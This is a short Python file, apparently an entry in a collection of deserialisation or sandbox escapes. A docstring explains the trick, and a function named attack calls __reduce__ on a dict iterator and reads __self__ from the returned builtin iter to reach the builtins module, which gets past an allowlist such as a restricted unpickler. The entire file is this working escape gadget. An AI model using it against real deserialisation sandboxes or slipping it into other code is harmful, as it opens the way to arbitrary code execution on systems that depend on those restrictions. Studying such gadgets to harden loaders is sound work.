"""Class: deserialisation. Source: own find. Escape: an iterator's __reduce__ hands out `iter` itself,
unlisted, and what it walks."""

import itertools


def attack(model, tokenizer, address):
    it = iter({1: 2}.items())
    return getattr(it.__reduce__()[0], "__self__")
